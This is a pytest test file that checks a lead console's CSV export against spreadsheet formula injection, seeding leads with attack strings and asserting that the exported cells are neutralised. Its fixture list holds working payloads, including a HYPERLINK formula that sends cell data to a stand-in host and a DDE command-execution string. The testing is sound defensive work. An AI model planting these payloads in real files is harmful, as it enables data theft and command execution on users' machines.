"""The console's CSV export (leadqual/console/queries.py export_csv) cannot start a formula in Excel
or LibreOffice, whatever separator the spreadsheet splits it on (`,`, `;` in Spanish Excel, tab)
and wherever the visitor put the formula in a value; ordinary values come out as they were."""

from __future__ import annotations

import csv
import io
import re

import pytest

from leadqual.console.queries import LeadFilter, export_csv
from leadqual.db.tables import Lead

from ..console_support import seed_lead

ATTACKS = [
    "Acme;=2+5",
    'x,=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "a\t=1",
    "=cmd|' /C calc'!A0",
    "Acme; +1",
    'Acme;"=1+1"',
    "Acme\n@SUM(A1)",
    "Acme\r\n-2+3",
    "-1+1",
]
FORMULA_START = ("=", "+", "-", "@")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


@pytest.fixture
def exported(store):
    """Leads whose company and name carry formulas, one ordinary lead with a negative score; the
    export of them all, as the console sends it."""
    for n, attack in enumerate(ATTACKS):
        seed_lead(store, f"lead{n}@evil.example", company=attack, name=attack, owner="lucia")
    seed_lead(store, "ana.garcia+web@acme.es", company="Acme, S.L.", name="Ana García", owner=None)
    with store.sessions.begin() as session:
        lead = session.query(Lead).filter_by(email="ana.garcia+web@acme.es").one()
        lead.total_score, lead.behaviour_score = -5, -12
    return "".join(export_csv(store, LeadFilter(), chunk=3))


def cells_a_spreadsheet_may_see(text: str, separator: str):
    """Every cell of the file read with `separator`: honouring CSV quotes, and also split at every
    separator and line break (a spreadsheet whose separator is not the file's one)."""
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row
    yield from re.split(f"[{re.escape(separator)}\r\n]", text)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_the_export_starts_a_formula(exported, separator):
    for cell in cells_a_spreadsheet_may_see(exported, separator):
        shown = cell.strip(' "')  # a spreadsheet may drop blanks and quotes before a formula
        if shown.startswith(FORMULA_START) or cell.startswith(("\t", "\r", "\n")):
            assert NUMBER.match(shown), f"{cell!r} would start a formula (separator {separator!r})"


def test_the_visible_text_is_kept_and_ordinary_values_are_untouched(exported):
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported, newline=""))}
    assert len(rows) == len(ATTACKS) + 1
    assert rows["lead0@evil.example"]["company"] == "Acme;'=2+5"
    assert rows["lead3@evil.example"]["company"] == "'=cmd|' /C calc'!A0"
    for n, attack in enumerate(ATTACKS):
        company = rows[f"lead{n}@evil.example"]["company"]
        assert company.replace("'", "") == attack.replace("'", "")  # only apostrophes added
    ana = rows["ana.garcia+web@acme.es"]
    assert ana["company"] == "Acme, S.L." and ana["name"] == "Ana García"
    assert ana["total"] == "-5" and ana["behaviour"] == "-12"  # numbers stay numbers
    assert rows["lead0@evil.example"]["owner"] == "lucia"
